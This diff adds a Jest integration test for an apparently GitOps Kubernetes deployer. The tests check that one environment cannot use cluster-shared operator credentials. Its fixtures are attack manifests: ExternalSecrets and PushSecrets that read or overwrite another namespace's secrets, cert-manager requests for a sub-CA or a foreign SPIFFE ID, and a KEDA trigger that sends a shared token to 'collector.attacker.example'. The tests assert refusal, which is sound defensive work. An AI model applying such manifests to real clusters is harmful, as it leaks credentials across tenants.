@@ -1,0 +1,363 @@
+import { spawnSync } from 'node:child_process';
+import { stringify } from 'yaml';
+import type { KubernetesTargetConfig } from '../../../controller/config/types';
+import type { PlaneResult } from '../../../controller/model';
+import type { KubeApplier } from '../../../controller/kube/types';
+import { sandboxEnv } from '../../sandbox/sandbox-env';
+import {
+  KUBECTL,
+  kubectlApply,
+  kubectlDelete,
+  twoEnvironmentInstall,
+  waitCrdEstablished,
+} from '../../helpers/install-identities';
+import { kubeKit } from './kube-kit';
+
+/**
+ * What a committer to one environment, applied as its own ServiceAccount with the install's RBAC
+ * and the operators' kinds granted in its namespace, cannot make a shared operator do with the
+ * credentials the whole cluster shares: External Secrets reading through a ClusterSecretStore,
+ * cert-manager signing a sub-CA or a SPIFFE ID under a ClusterIssuer, KEDA handing a
+ * ClusterTriggerAuthentication's token to a trigger. The sandbox runs none of those operators, only
+ * their CRDs (as their charts install them): each test shows that the API server admits the object
+ * from a's ServiceAccount (only cairn's check stands between it and the operator), that plan and
+ * apply refuse it, and that nothing of the tree reaches the server.
+ */
+jest.setTimeout(180_000);
+const kit = kubeKit('shared-creds');
+const suffix = Math.random().toString(36).slice(2, 7);
+const install = twoEnvironmentInstall(suffix);
+const { a, b } = install;
+const repository = (install.config.repository as { url: string }).url;
+const hostA = `a-${suffix}.example.com`;
+
+/** The operators' namespaced kinds, as their charts install them. A CRD already served (another test's) is kept. */
+const operatorCrds = [
+  { group: 'external-secrets.io', version: 'v1', plural: 'externalsecrets', kind: 'ExternalSecret' },
+  { group: 'external-secrets.io', version: 'v1alpha1', plural: 'pushsecrets', kind: 'PushSecret' },
+  { group: 'cert-manager.io', version: 'v1', plural: 'certificates', kind: 'Certificate' },
+  { group: 'cert-manager.io', version: 'v1', plural: 'certificaterequests', kind: 'CertificateRequest' },
+  { group: 'keda.sh', version: 'v1alpha1', plural: 'scaledobjects', kind: 'ScaledObject' },
+];
+const crdsMadeHere: string[] = [];
+const operatorRbac = [
+  {
+    apiVersion: 'rbac.authorization.k8s.io/v1',
+    kind: 'Role',
+    metadata: { name: `operator-kinds-${suffix}`, namespace: a.ns },
+    rules: operatorCrds.map((c) => ({ apiGroups: [c.group], resources: [c.plural], verbs: ['*'] })),
+  },
+  {
+    apiVersion: 'rbac.authorization.k8s.io/v1',
+    kind: 'RoleBinding',
+    metadata: { name: `operator-kinds-${suffix}`, namespace: a.ns },
+    roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'Role', name: `operator-kinds-${suffix}` },
+    subjects: [{ kind: 'ServiceAccount', name: a.sa, namespace: a.ns }],
+  },
+]
+  .map((o) => stringify(o))
+  .join('---\n');
+
+function installOperatorCrds(): void {
+  const kubeconfig = sandboxEnv().kubernetes.kubeconfig;
+  for (const c of operatorCrds) {
+    const name = `${c.plural}.${c.group}`;
+    const there = spawnSync(KUBECTL, ['--kubeconfig', kubeconfig, 'get', 'crd', name], { encoding: 'utf8' });
+    if (there.status === 0) continue;
+    kubectlApply(
+      stringify({
+        apiVersion: 'apiextensions.k8s.io/v1',
+        kind: 'CustomResourceDefinition',
+        metadata: { name },
+        spec: {
+          group: c.group,
+          scope: 'Namespaced',
+          names: { plural: c.plural, singular: c.kind.toLowerCase(), kind: c.kind },
+          versions: [
+            {
+              name: c.version,
+              served: true,
+              storage: true,
+              schema: { openAPIV3Schema: { type: 'object', 'x-kubernetes-preserve-unknown-fields': true } },
+            },
+          ],
+        },
+      }),
+    );
+    crdsMadeHere.push(name);
+    waitCrdEstablished(kubeconfig, name);
+  }
+}
+
+/** An applier of environment a (named `name`, so its inventory is its own), with `overrides` on top. */
+function applierOfA(name: string, overrides: Partial<KubernetesTargetConfig> = {}): KubeApplier {
+  return kit.applier(
+    name,
+    kit.target(a.ns, {
+      namespaces: [a.ns, a.extra],
+      serviceAccount: `${a.ns}/${a.sa}`,
+      hosts: [hostA, `*.${hostA}`],
+      pruneMaxShare: 1,
+      ...overrides,
+    }),
+    { repository },
+  );
+}
+
+beforeAll(() => {
+  kubectlApply(install.exported);
+  installOperatorCrds();
+  kubectlApply(operatorRbac);
+});
+
+afterAll(async () => {
+  await kit.cleanup();
+  kubectlDelete(operatorRbac);
+  kubectlDelete(install.exported);
+  for (const name of crdsMadeHere)
+    spawnSync(KUBECTL, [
+      '--kubeconfig',
+      sandboxEnv().kubernetes.kubeconfig,
+      'delete',
+      'crd',
+      name,
+      '--wait=false',
+    ]);
+});
+
+/** An object of a tree, as a test writes it. */
+type Manifest = { apiVersion: string; kind: string; metadata: { name: string }; spec?: object };
+
+/** Whether the API server admits `object` in a's namespace from a's ServiceAccount (a server-side dry run). */
+function admittedAsA(object: Manifest): { ok: boolean; stderr: string } {
+  const res = spawnSync(
+    KUBECTL,
+    [
+      '--kubeconfig',
+      sandboxEnv().kubernetes.kubeconfig,
+      'create',
+      '--dry-run=server',
+      `--as=system:serviceaccount:${a.ns}:${a.sa}`,
+      '-n',
+      a.ns,
+      '-f',
+      '-',
+    ],
+    { input: JSON.stringify(object), encoding: 'utf8' },
+  );
+  return { ok: res.status === 0, stderr: res.stderr };
+}
+
+/** The same tree planned, then applied, by `applier`. */
+async function planAndApply(
+  applier: KubeApplier,
+  files: Record<string, Manifest>,
+): Promise<{ plan: PlaneResult; apply: PlaneResult }> {
+  const texts = Object.fromEntries(Object.entries(files).map(([file, o]) => [file, stringify(o)]));
+  const manifests = await applier.load(await kit.workspace(texts));
+  return { plan: await applier.plan(manifests), apply: await applier.apply(manifests) };
+}
+
+/** `object` of a's namespace as the API server holds it (read as the sandbox's admin), or undefined. */
+function readBack(object: Manifest): Promise<unknown> {
+  const crd = operatorCrds.find(
+    (c) => `${c.group}/${c.version}` === object.apiVersion && c.kind === object.kind,
+  );
+  const path = crd
+    ? `/apis/${object.apiVersion}/namespaces/${a.ns}/${crd.plural}/${object.metadata.name}`
+    : `/api/v1/namespaces/${a.ns}/configmaps/${object.metadata.name}`;
+  return kit.get(path);
+}
+
+const externalSecret = (name: string, spec: object): Manifest => ({
+  apiVersion: 'external-secrets.io/v1',
+  kind: 'ExternalSecret',
+  metadata: { name },
+  spec: { refreshInterval: '1h', target: { name }, ...spec },
+});
+const pushSecret = (name: string, spec: object): Manifest => ({
+  apiVersion: 'external-secrets.io/v1alpha1',
+  kind: 'PushSecret',
+  metadata: { name },
+  spec,
+});
+const certificate = (name: string, spec: object): Manifest => ({
+  apiVersion: 'cert-manager.io/v1',
+  kind: 'Certificate',
+  metadata: { name },
+  spec: { secretName: `${name}-tls`, issuerRef: { kind: 'ClusterIssuer', name: 'internal-ca' }, ...spec },
+});
+const scaledObject = (name: string, authenticationRef: object): Manifest => ({
+  apiVersion: 'keda.sh/v1alpha1',
+  kind: 'ScaledObject',
+  metadata: { name },
+  spec: {
+    scaleTargetRef: { name: 'web' },
+    triggers: [
+      {
+        type: 'prometheus',
+        metadata: { serverAddress: 'http://collector.attacker.example', query: 'up', threshold: '1' },
+        authenticationRef,
+      },
+    ],
+  },
+});
+const configMap = (name: string): Manifest =>
+  ({ apiVersion: 'v1', kind: 'ConfigMap', metadata: { name }, data: { k: 'v' } }) as Manifest;
+
+/** What each test declares, the field and holder its refusal names, and the same object on the environment's own holder. */
+const cases: readonly (readonly [string, (name: string) => Manifest, string, (name: string) => Manifest])[] =
+  [
+    [
+      "an ExternalSecret reading b's database password through the shared ClusterSecretStore",
+      (name) =>
+        externalSecret(name, {
+          secretStoreRef: { kind: 'ClusterSecretStore', name: 'aws-secrets-manager' },
+          data: [{ secretKey: 'password', remoteRef: { key: `${b.ns}/database`, property: 'password' } }],
+        }),
+      'spec.secretStoreRef uses ClusterSecretStore/aws-secrets-manager, a credential the whole cluster shares',
+      (name) =>
+        externalSecret(name, {
+          secretStoreRef: { name: 'team-a-store' },
+          data: [{ secretKey: 'password', remoteRef: { key: `${a.ns}/database`, property: 'password' } }],
+        }),
+    ],
+    [
+      "an ExternalSecret reading b's Secret through a dataFrom entry's ClusterSecretStore of the Kubernetes provider",
+      (name) =>
+        externalSecret(name, {
+          secretStoreRef: { name: 'team-a-store' },
+          dataFrom: [
+            {
+              extract: { key: 'db' },
+              sourceRef: { storeRef: { kind: 'ClusterSecretStore', name: 'cluster-secrets' } },
+            },
+          ],
+        }),
+      'spec.dataFrom[0].sourceRef.storeRef uses ClusterSecretStore/cluster-secrets',
+      (name) =>
+        externalSecret(name, {
+          secretStoreRef: { name: 'team-a-store' },
+          dataFrom: [{ extract: { key: 'db' } }],
+        }),
+    ],
+    [
+      'a PushSecret writing over remote keys through every ClusterSecretStore a label selects',
+      (name) =>
+        pushSecret(name, {
+          secretStoreRefs: [
+            { kind: 'ClusterSecretStore', labelSelector: { matchLabels: { tier: 'shared' } } },
+          ],
+          selector: { secret: { name: 'mine' } },
+          data: [{ match: { secretKey: 'k', remoteRef: { remoteKey: `${b.ns}/database` } } }],
+        }),
+      'spec.secretStoreRefs[0] uses ClusterSecretStore/*',
+      (name) =>
+        pushSecret(name, {
+          secretStoreRefs: [{ name: 'team-a-store' }],
+          selector: { secret: { name: 'mine' } },
+          data: [{ match: { secretKey: 'k', remoteRef: { remoteKey: `${a.ns}/k` } } }],
+        }),
+    ],
+    [
+      "a Certificate for a's own host asking the shared CA ClusterIssuer for a sub-CA",
+      (name) => certificate(name, { isCA: true, commonName: hostA, dnsNames: [hostA] }),
+      'spec.isCA uses ClusterIssuer/internal-ca, a credential the whole cluster shares: it asks for a sub-CA',
+      (name) =>
+        certificate(name, {
+          isCA: true,
+          commonName: hostA,
+          dnsNames: [hostA],
+          issuerRef: { name: 'team-a-ca' },
+        }),
+    ],
+    [
+      "a Certificate of the shared ClusterIssuer naming b's workload by its SPIFFE ID (no host, so no claim)",
+      (name) => certificate(name, { uris: [`spiffe://cluster.local/ns/${b.ns}/sa/default`] }),
+      'spec.uris uses ClusterIssuer/internal-ca',
+      (name) =>
+        certificate(name, {
+          uris: [`spiffe://cluster.local/ns/${a.ns}/sa/default`],
+          issuerRef: { name: 'team-a-ca' },
+        }),
+    ],
+    [
+      'a KEDA ScaledObject handing the shared ClusterTriggerAuthentication to a server of its own',
+      (name) => scaledObject(name, { kind: 'ClusterTriggerAuthentication', name: 'prometheus-token' }),
+      'spec.triggers[0].authenticationRef uses ClusterTriggerAuthentication/prometheus-token',
+      (name) => scaledObject(name, { name: 'team-a-auth' }),
+    ],
+  ];
+
+describe('a shared operator acting with the credentials the whole cluster shares', () => {
+  it.each(cases)('refuses %s, which the API server admits from a', async (_what, make, line) => {
+    // given the API server takes the object from a's ServiceAccount (only cairn's check stands
+    // between it and the operator)
+    const object = make(kit.name('take'));
+    expect(admittedAsA(object)).toMatchObject({ ok: true });
+
+    // when a's commit declares it beside an ordinary ConfigMap
+    const beside = configMap(kit.name('beside'));
+    const result = await planAndApply(applierOfA('a'), { 'take.yaml': object, 'beside.yaml': beside });
+
+    // then plan and apply refuse it naming the file, the object, the field and the holder, and
+    // nothing of the tree reaches the server
+    for (const r of [result.plan, result.apply]) {
+      expect(r.failure).toMatchObject({ code: 'kube.out-of-bounds', retryable: false });
+      expect(r.failure!.message).toContain(
+        `k8s-resources/take.yaml: ${object.kind}/${a.ns}/${object.metadata.name}: ${line}`,
+      );
+      expect(r.failure!.message).toContain('kubernetes.sharedCredentials');
+    }
+    expect(await readBack(object)).toBeUndefined();
+    expect(await readBack(beside)).toBeUndefined();
+  });
+
+  it('refuses a CertificateRequest to the shared ClusterIssuer for an environment without kubernetes.hosts', async () => {
+    // given an environment that lists no hosts (no host claim is checked) and a request the API server admits
+    const request: Manifest = {
+      apiVersion: 'cert-manager.io/v1',
+      kind: 'CertificateRequest',
+      metadata: { name: kit.name('csr') },
+      spec: {
+        request: 'LS0tLS1CRUdJTg==',
+        isCA: true,
+        issuerRef: { kind: 'ClusterIssuer', name: 'internal-ca' },
+      },
+    } as Manifest;
+    expect(admittedAsA(request)).toMatchObject({ ok: true });
+
+    // when a's commit declares it
+    const result = await planAndApply(applierOfA('a-no-hosts', { hosts: undefined }), {
+      'csr.yaml': request,
+    });
+
+    // then it is refused in plan and apply, naming the signed request, and not written
+    for (const r of [result.plan, result.apply])
+      expect(r.failure?.message).toContain(
+        `CertificateRequest/${a.ns}/${request.metadata.name}: spec.request uses ClusterIssuer/internal-ca`,
+      );
+    expect(await readBack(request)).toBeUndefined();
+  });
+
+  it("applies each object on the environment's own SecretStore, Issuer or TriggerAuthentication", async () => {
+    const files = Object.fromEntries(cases.map(([, , , own], i) => [`own-${i}.yaml`, own(`own-${i}`)]));
+    const result = await planAndApply(applierOfA('a-own'), files);
+    expect(result.plan.failure).toBeUndefined();
+    expect(result.apply.failure).toBeUndefined();
+    for (const object of Object.values(files)) expect(await readBack(object)).toBeDefined();
+  });
+
+  it('applies the shared holders an admin lists in kubernetes.sharedCredentials', async () => {
+    const listed = [
+      'ClusterSecretStore/*',
+      'ClusterIssuer/internal-ca',
+      'ClusterTriggerAuthentication/prometheus-token',
+    ];
+    const files = Object.fromEntries(cases.map(([, take], i) => [`listed-${i}.yaml`, take(`listed-${i}`)]));
+    const result = await planAndApply(applierOfA('a-listed', { sharedCredentials: listed }), files);
+    expect(result.plan.failure).toBeUndefined();
+    expect(result.apply.failure).toBeUndefined();
+    for (const object of Object.values(files)) expect(await readBack(object)).toBeDefined();
+  });
+});
